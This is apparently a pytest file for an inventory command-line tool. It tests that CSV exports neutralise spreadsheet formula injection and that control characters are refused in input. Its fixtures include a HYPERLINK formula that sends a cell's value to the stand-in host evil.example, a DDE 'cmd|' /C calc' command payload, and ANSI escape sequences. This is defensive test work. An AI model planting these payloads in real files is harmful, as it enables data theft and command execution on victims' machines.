"""CSV injection: text a stockroom user typed (a lot code ``=1+2``, a ``--po`` reference
``=HYPERLINK(...)``, a supplier's article number ``@SUM(...)``) reaches a manager's
spreadsheet as text, never as a formula; numbers stay numbers; codes and names holding
control characters are refused where they are typed."""

from __future__ import annotations

import csv
import io
import re
from datetime import date, timedelta
from decimal import Decimal

import pytest
from e2e_support import assert_bad_input, json_of
from e2e_support import write_csv as write_sheet

from kitops.services.csvfiles import csv_cell, write_csv

IN_DAYS = (date.today() + timedelta(days=400)).isoformat()
FORMULA = "=1+2"
LINK = '=HYPERLINK("http://evil.example/?"&A1,"Click for the invoice")'
ARTICLE = "@SUM(1+1)*cmd|' /C calc'!A0"
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")


def cells_of(content: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content)) for cell in row]


def assert_no_formula(content: str) -> None:
    """No cell a spreadsheet would run: each starts with none of = + - @ tab CR, unless it
    is a number (``-9`` days) or kitops' lone ``-`` for "none"."""
    for cell in cells_of(content):
        if NUMBER.fullmatch(cell) or cell == "-":
            continue
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_text_that_would_be_a_formula_gets_a_quote_and_numbers_stay_numbers():
    assert csv_cell("=1+2") == "'=1+2"
    for start in ("+", "-", "@", "\t", "\r"):
        assert csv_cell(f"{start}cmd|' /C calc'!A0") == f"'{start}cmd|' /C calc'!A0"
    assert csv_cell("PTT6-A0412") == "PTT6-A0412"  # a dash inside is nothing
    assert csv_cell("-") == "-"  # kitops' "none"
    assert csv_cell("-3") == "'-3"  # text that looks like a number is still text
    assert csv_cell(-3) == -3
    assert csv_cell(Decimal("-12.50")) == Decimal("-12.50")
    assert csv_cell(None) == ""
    written = write_csv([["qty", "note"], [-3, "-3"], [Decimal("-1.50"), '=A1,"x"']])
    assert written == 'qty,note\n-3,\'-3\n-1.50,"\'=A1,""x"""\n'


def test_a_formula_typed_as_a_lot_code_or_po_reference_is_text_in_every_report_csv(demo, tmp_path):
    received = demo("receive", "SERUM-5ML", "--lot", FORMULA, "--expiry", IN_DAYS,
                    "--qty", "6", "--location", "LON-FRIDGE", "--po", LINK)  # fmt: skip
    assert received.code == 0, received.err
    for name in ("movements", "stock", "expiring", "valuation"):
        target = tmp_path / f"{name}.csv"
        made = demo("report", name, "--out", str(target))
        assert made.code == 0, made.err
        content = target.read_text(encoding="utf-8")
        assert_no_formula(content)
        if name in ("movements", "stock"):
            assert "'" + FORMULA in cells_of(content), name
    moves = (tmp_path / "movements.csv").read_text(encoding="utf-8")
    assert "'" + LINK in cells_of(moves)
    # printed to the terminal as well
    shown = demo("report", "movements", "--format", "csv")
    assert "'" + LINK in cells_of(shown.out)
    assert_no_formula(shown.out)


def test_negative_numbers_stay_numbers_in_report_csv(demo):
    """The demo's expired lot is some days past expiry: a negative count of days, a number
    a spreadsheet sums, not text with a quote."""
    content = demo("report", "stock", "--format", "csv").out
    rows = list(csv.DictReader(io.StringIO(content.split("\n\n")[1].split("\n", 1)[1])))
    days = [row["days_to_expiry"] for row in rows if row["days_to_expiry"]]
    assert any(d.startswith("-") for d in days), days
    assert all(NUMBER.fullmatch(d) for d in days), days


def test_a_supplier_article_number_is_text_in_the_purchase_order_csv(demo, tmp_path):
    assert demo("reorder", "run").code == 0
    order = json_of(demo, "po", "show", "PO-000001", "--json")
    line = order["lines"][0]
    changed = demo("supplier", "item", order["supplier"], line["sku"], "--pack", "10",
                   "--min-order", "10", "--cost", "4.50", "--supplier-sku", ARTICLE)  # fmt: skip
    assert changed.code == 0, changed.err
    target = tmp_path / "po.csv"
    assert demo("po", "export", "PO-000001", "--format", "csv", "--out", str(target)).code == 0
    content = target.read_text(encoding="utf-8")
    assert_no_formula(content)
    assert "'" + ARTICLE in cells_of(content)
    lines = list(csv.DictReader(io.StringIO(content)))
    assert lines[0]["quantity"] == str(line["quantity"])
    assert lines[0]["unit_cost"] == "4.50"


CONTROL = ["\x1b[1A\x1b[2K", "tab\there", "line\nbreak", "del\x7f", "csi\x9b2J", "nul\x00"]


@pytest.mark.parametrize("bad", CONTROL, ids=["esc", "tab", "newline", "del", "c1", "nul"])
def test_codes_and_names_with_control_characters_are_refused_where_typed(demo, bad, snapshot_db):
    before = snapshot_db()
    tries = [
        (("receive", "SERUM-5ML", "--lot", f"L{bad}", "--expiry", IN_DAYS, "--qty", "6",
          "--location", "LON-FRIDGE"), "lot"),
        (("receive", "SERUM-5ML", "--lot", "LOT-OK", "--expiry", IN_DAYS, "--qty", "6",
          "--location", "LON-FRIDGE", "--po", f"REF{bad}"), "po"),
        (("catalog", "add-product", "GLOVES", "--name", f"Gloves{bad}", "--kind",
          "consumable"), "name"),
        (("location", "add", "LON-BOX", "--name", f"Box{bad}", "--parent", "LON",
          "--kind", "shelf"), "name"),
        (("supplier", "add", "NEWSUP", "--name", f"New{bad}", "--lead-time", "5",
          "--currency", "GBP"), "name"),
        (("user", "add", f"eve{bad}", "--role", "stockroom", "--no-pin"), "name"),
        (("catalog", "add-product", f"SKU{bad}", "--name", "Gloves", "--kind",
          "consumable"), "sku"),
    ]  # fmt: skip
    for args, field in tries:
        refused = demo(*args)
        assert_bad_input(refused, field)
        assert "\x1b" not in refused.err
        assert "\x9b" not in refused.err
    assert snapshot_db() == before


def test_a_user_name_with_control_characters_is_refused_before_anything_runs(cli):
    refused = cli("--user", "mallory\x1b[1A\x1b[2K", "stock")
    assert refused.code == 2, refused
    assert "--user" in refused.err
    assert "\x1b" not in refused.err


def test_an_imported_name_with_control_characters_refuses_the_file(demo, tmp_path, snapshot_db):
    before = snapshot_db()
    sheet = write_sheet(
        tmp_path, "products.csv", "sku,name,kind", "GLOVES,Gloves\x1b[2K,consumable"
    )
    refused = demo("import", "products", sheet)
    assert refused.code == 2, refused
    assert "name" in refused.err
    assert "\x1b" not in refused.err
    assert snapshot_db() == before
